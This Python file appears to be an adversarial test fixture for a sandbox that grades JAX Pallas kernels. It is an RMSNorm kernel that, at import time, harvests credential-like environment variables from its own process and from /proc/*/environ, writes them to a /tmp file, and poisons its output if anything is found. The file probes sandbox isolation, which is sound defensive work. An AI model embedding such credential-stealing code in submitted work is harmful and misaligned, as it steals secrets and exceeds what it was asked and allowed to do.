"""Adversarial: an honest RMSNorm kernel that hunts for credentials and tries to leak them.

It looks in its own environment and in every /proc/<pid>/environ it can read. Whatever
it finds goes to a file outside its directory, and any find poisons its output, so the
verdict itself says whether it saw anything.
"""

import glob
import os

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

EXFIL_FILE = "/tmp/kernelgraph-exfil-test.txt"


def _hunt():
    found = [f"{k}={v}" for k, v in os.environ.items()
             if any(w in k.upper() for w in ("KEY", "TOKEN", "SECRET", "GEMINI", "PASSWORD"))]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                entries = f.read().split(b"\0")
        except OSError:
            continue
        found += [e.decode(errors="replace") for e in entries
                  if b"GEMINI" in e or b"API_KEY" in e or b"TOKEN" in e]
    return found


FOUND = _hunt()
if FOUND:
    try:
        with open(EXFIL_FILE, "w") as f:
            f.write("\n".join(FOUND))
    except OSError:
        pass


def _kernel(x_ref, w_ref, o_ref):
    x = x_ref[...]
    ms = jnp.mean(x * x, axis=-1, keepdims=True)
    o_ref[...] = x * jax.lax.rsqrt(ms + 1e-6) * w_ref[...] * (2.0 if FOUND else 1.0)


def build(block_rows=64):
    def kernel(x, w):
        rows, hidden = x.shape
        spec = pl.BlockSpec((block_rows, hidden), lambda i: (i, 0))
        return pl.pallas_call(
            _kernel,
            out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype),
            grid=(pl.cdiv(rows, block_rows),),
            in_specs=[spec, pl.BlockSpec((1, hidden), lambda i: (0, 0))],
            out_specs=spec,
        )(x, w.reshape(1, hidden))

    return kernel
